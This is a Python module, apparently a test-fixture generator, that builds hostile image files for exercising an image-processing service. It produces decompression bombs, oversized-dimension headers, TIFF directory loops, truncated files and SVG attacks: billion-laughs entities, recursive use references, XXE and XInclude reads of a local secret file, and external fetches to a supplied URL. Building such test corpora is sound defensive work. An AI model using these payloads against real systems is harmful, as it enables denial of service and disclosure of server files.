"""Pictures that mean harm."""
import io
import struct
import zlib

from PIL import Image

HUGE = 100_000


def chunk(name, data):
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def zeros(mebibytes, byte=b"\0"):
    """A zlib stream of as many bytes of one kind: one packed mebibyte, over and over."""
    packer = zlib.compressobj(9, wbits=-15)
    block = packer.compress(byte * (1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    checksum = 1
    for _ in range(mebibytes):
        checksum = zlib.adler32(byte * (1 << 20), checksum)
    return b"\x78\xda" + block * mebibytes + b"\x03\0" + struct.pack(">I", checksum)


def png(width, height, data, before=b""):
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + before + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def tiff(fields, next_directory=0):
    directory = struct.pack("<H", len(fields))
    for tag, kind, count, value in fields:
        directory += struct.pack("<HHII", tag, kind, count, value)
    return b"II*\0\x08\0\0\0" + directory + struct.pack("<I", next_directory)


def grey(width, height, strip, length):
    return [(256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1),
            (273, 4, 1, strip), (277, 3, 1, 1), (278, 4, 1, height), (279, 4, 1, length)]


def saved(kind, width=64, height=48, **options):
    picture = Image.new("RGB", (width, height))
    picture.putdata([(x * 3, y * 5, 99) for y in range(height) for x in range(width)])
    out = io.BytesIO()
    picture.save(out, kind, **options)
    return out.getvalue()


def scans(jpeg, count):
    """The same photograph with its last scan many times over."""
    last = jpeg.rindex(b"\xff\xda")
    return jpeg[:last] + jpeg[last:-2] * count + b"\xff\xd9"


def svg(inside, size="width='100' height='100'", before=""):
    names = "xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'"
    return f"<?xml version='1.0'?>{before}<svg {names} {size}>{inside}</svg>".encode()


def laughs(depth=12):
    entities = ["<!ENTITY e0 'LAUGH'>"]
    entities += [f"<!ENTITY e{n} '{f'&e{n - 1};' * 10}'>" for n in range(1, depth)]
    return f"<!DOCTYPE svg [{''.join(entities)}]>", f"&e{depth - 1};"


def files(url, secret):
    row = zlib.compress(bytes(101 * 100))
    yield "size.png", png(HUGE, HUGE, row)
    yield "bomb.png", png(100, 100, zeros(1_024))
    yield "text.png", png(100, 100, row, chunk(b"zTXt", b"Comment\0\0" + zeros(512)))
    yield "profile.png", png(100, 100, row, chunk(b"iCCP", b"x\0\0" + zeros(1_024)))
    yield "chunks.png", png(100, 100, row, chunk(b"tEXt", b"a\0b") * 5_000)
    yield "size.gif", b"GIF89a" + struct.pack("<HH", 65_535, 65_535) + b"\0\0\0,\0\0\0\0" \
        + struct.pack("<HH", 65_535, 65_535) + b"\0\x02\x02\x44\x01\0;"
    frame = b"!\xf9\x04\0\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02\x44\x01\0"
    yield "frames.gif", b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff" + frame * 2_000 + b";"
    yield "size.tiff", tiff(grey(HUGE, HUGE, 8, 1 << 31))
    yield "strip.tiff", tiff(grey(100, 100, 8, 0xFFFFFFFF))
    yield "loop.tiff", tiff(grey(4, 4, 8, 16), 8)
    yield "count.tiff", tiff([(256, 4, 1, 4), (257, 4, 1, 4), (273, 4, 0xFFFFFFFF, 8)])
    yield "size.bmp", b"BM" + struct.pack("<IIIIiiHHIIiiII", 99, 0, 54, 40, HUGE, HUGE, 1, 24, 0, 0, 0, 0, 0, 0) + bytes(45)
    yield "negative.bmp", b"BM" + struct.pack("<IIIIiiHHIIiiII", 99, 0, 54, 40, -4, -(1 << 31), 1, 24, 0, 0, 0, 0, 0, 0)
    yield "size.webp", b"RIFF\x26\0\0\0WEBPVP8X\x0a\0\0\0\0\0\0\0\xff\xff\xff\xff\xff\xffVP8L\x05\0\0\0\x2f\xff\xff\xff\x0f\0"
    yield "size.ppm", b"P6\n99999999 99999999\n255\nabc"
    yield "comment.ppm", b"P6\n#" + b"x" * (1 << 20)
    jpeg = saved("JPEG")
    frame = jpeg.index(b"\xff\xc0") + 5
    yield "size.jpg", jpeg[:frame] + b"\xff\xff\xff\xff" + jpeg[frame + 4:]
    yield "scans.jpg", scans(saved("JPEG", 1_000, 1_000, progressive=True), 400)
    yield "size.heic", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic\0\0\0\x08mdat"
    for kind, extension in [("JPEG", "jpg"), ("PNG", "png"), ("GIF", "gif"), ("TIFF", "tiff"), ("WEBP", "webp"), ("BMP", "bmp"), ("PPM", "ppm")]:
        whole = saved(kind)
        yield f"cut.{extension}", whole[:len(whole) // 2]

    yield "use.svg", svg("<g id='a'><use xlink:href='#b'/></g><g id='b'><use xlink:href='#a'/></g><use xlink:href='#a'/>")
    doubled = "".join(f"<g id='g{n}'><use xlink:href='#g{n - 1}'/><use xlink:href='#g{n - 1}'/></g>" for n in range(1, 40))
    yield "doubled.svg", svg(f"<defs><rect id='g0' width='9' height='9'/>{doubled}</defs><use xlink:href='#g39'/>")
    yield "size.svg", svg("<rect width='9' height='9'/>", "width='9999999' height='9999999'")
    before, word = laughs()
    yield "laughs.svg", svg(f"<text y='50'>{word}</text>", before=before)
    outside = f"<image xlink:href='{url}/svg' width='9' height='9'/><image xlink:href='file://{secret}.png' width='9' height='9'/>" \
        f"<style>@import url('{url}/css'); text {{ font-family: x; src: url('{url}/font') }}</style>" \
        f"<text y='50'>Avis</text><script>location='{url}/script'</script>"
    yield "outside.svg", svg(outside)
    entity = f"<!DOCTYPE svg [<!ENTITY x SYSTEM 'file://{secret}'>]>"
    yield "entity.svg", svg("<text y='50'>Avis &x;</text>", before=entity)
    yield "include.svg", svg(f"<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file://{secret}' parse='text'/><text y='50'>Avis</text>")
    yield "nested.svg", svg("<g>" * 100_000 + "</g>" * 100_000)
    yield "cut.svg", svg("<text y='50'>Avis</text>")[:-20]
